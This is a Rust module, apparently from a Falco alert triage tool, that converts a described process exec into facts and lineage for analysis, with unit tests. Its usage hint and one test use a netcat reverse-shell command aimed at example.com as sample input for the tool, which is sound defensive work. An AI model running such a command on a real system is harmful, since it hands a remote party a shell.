//! `falco-triage explain`: an exec described on the command line becomes facts and lineage.
//!
//! Not here: option parsing (the binary's clap types fill [`ExplainInput`]) or judging.

use crate::analysis::Lineage;
use crate::facts::{
    Capabilities, ContainerInfo, ContainerRuntime, DecodeLimits, ExeFlags, ExecFacts,
};

/// The tty number of /dev/pts/0 (major 136, minor 0), what `--tty` sets.
pub const PTS0: u32 = 136 << 8;

/// Everything `explain` can be told about one exec.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ExplainInput {
    /// argv, argv[0] first.
    pub argv: Vec<String>,
    /// The resolved executable path; defaults to argv[0].
    pub exe: Option<String>,
    /// Ancestor comms, nearest first.
    pub parents: Vec<String>,
    /// `None`: on the host. `Some(None)`: in a container with an unspecified id.
    pub container: Option<Option<String>>,
    pub uid: Option<u32>,
    /// Exe flag names (`writable`, `upper_layer`, `lower_layer`, `memfd`).
    pub exe_flags: Vec<String>,
    /// Capability names in the effective (and permitted) set.
    pub caps: Vec<String>,
    pub tty: bool,
    /// `KEY=VALUE` entries.
    pub env: Vec<String>,
    pub cwd: Option<String>,
    pub res: Option<i64>,
}

/// Build facts and lineage; `Err` says which option is wrong and what is accepted.
pub fn facts_from_input(input: &ExplainInput) -> Result<(ExecFacts, Lineage), String> {
    if input.argv.is_empty() {
        return Err("nothing to explain: give the command after `--`, e.g. \
                    falco-triage explain -- nc -e /bin/sh example.com 22"
            .into());
    }
    let limits = DecodeLimits::default();
    let mut argv = Vec::new();
    let mut bytes = 0usize;
    let mut argv_truncated = false;
    for a in &input.argv {
        if argv.len() >= limits.max_args || bytes + a.len() > limits.max_args_bytes {
            argv_truncated = true;
            break;
        }
        bytes += a.len();
        argv.push(a.clone());
    }
    let exe_path = input.exe.clone().unwrap_or_else(|| input.argv[0].clone());

    let mut flags = 0u32;
    for f in &input.exe_flags {
        flags |= super::parse_exe_flags(f)?.0;
    }
    let mut caps = 0u64;
    for c in input
        .caps
        .iter()
        .flat_map(|c| c.split(','))
        .filter(|c| !c.trim().is_empty())
    {
        caps |= super::capability_bit(c).ok_or_else(|| {
            format!(
                "unknown capability `{}` (e.g. CAP_SYS_ADMIN, CAP_NET_RAW)",
                crate::report::escape(c, 40)
            )
        })?;
    }
    for kv in &input.env {
        if !kv.contains('=') {
            return Err(format!(
                "--env wants KEY=VALUE, got `{}`",
                crate::report::escape(kv, 80)
            ));
        }
    }
    let container = match &input.container {
        None => None,
        // `--container` alone: in a container whose id and runtime we are not told.
        Some(None) => Some(ContainerInfo {
            runtime: ContainerRuntime::Unknown,
            short_id: String::new(),
        }),
        Some(Some(id)) => {
            if id.len() < 12 || !id.bytes().all(|b| b.is_ascii_hexdigit()) {
                return Err(format!(
                    "--container wants a hex container id (12 or 64 characters), got `{}`",
                    crate::report::escape(id, 80)
                ));
            }
            Some(ContainerInfo {
                runtime: ContainerRuntime::Docker,
                short_id: id[..12].to_ascii_lowercase(),
            })
        }
    };
    let facts = ExecFacts {
        argv,
        argv_truncated,
        comm: Some(super::comm_of(&input.argv[0])),
        exe_path: Some(exe_path),
        cwd: input.cwd.clone(),
        env: input.env.iter().take(limits.max_env).cloned().collect(),
        env_truncated: input.env.len() > limits.max_env,
        tty: Some(if input.tty { PTS0 } else { 0 }),
        uid: input.uid,
        res: Some(input.res.unwrap_or(0)),
        exe_flags: Some(ExeFlags(flags)),
        caps: if input.caps.is_empty() {
            Capabilities::default()
        } else {
            Capabilities {
                inheritable: Some(0),
                permitted: Some(caps),
                effective: Some(caps),
            }
        },
        container,
        // The user told us where it runs, so "no container" is known.
        cgroups_present: true,
        ..Default::default()
    };
    Ok((facts, Lineage::from_comms(input.parents.iter().cloned())))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn input(argv: &[&str]) -> ExplainInput {
        ExplainInput {
            argv: argv.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        }
    }

    #[test]
    fn options_become_facts() {
        let mut i = input(&["nc", "-e", "/bin/sh", "example.com", "22"]);
        i.exe = Some("/usr/bin/nc.openbsd".into());
        i.parents = vec!["event-generator".into(), "containerd-shim".into()];
        i.container = Some(Some("1d45a96b1daa".into()));
        i.exe_flags = vec!["writable,lower_layer".into()];
        i.caps = vec!["CAP_NET_RAW,CAP_SYS_ADMIN".into()];
        i.uid = Some(0);
        let (f, l) = facts_from_input(&i).unwrap();
        assert_eq!(f.argv.len(), 5);
        assert_eq!(f.exe_path.as_deref(), Some("/usr/bin/nc.openbsd"));
        assert_eq!(f.comm.as_deref(), Some("nc"));
        assert_eq!(
            f.exe_flags,
            Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER))
        );
        assert_eq!(f.caps.effective, Some((1 << 13) | (1 << 21)));
        assert_eq!(
            f.container.as_ref().map(|c| c.short_id.as_str()),
            Some("1d45a96b1daa")
        );
        assert_eq!(f.tty, Some(0));
        assert_eq!(l.parent().map(|a| a.comm.as_str()), Some("event-generator"));
    }

    #[test]
    fn bad_options_are_explained() {
        assert!(facts_from_input(&input(&[])).is_err());
        let mut i = input(&["id"]);
        i.caps = vec!["CAP_FLY".into()];
        assert!(facts_from_input(&i).unwrap_err().contains("CAP_FLY"));
        let mut i = input(&["id"]);
        i.container = Some(Some("not-hex".into()));
        assert!(facts_from_input(&i).is_err());
        let mut i = input(&["id"]);
        i.container = Some(None);
        assert!(facts_from_input(&i).unwrap().0.container.is_some());
    }
}
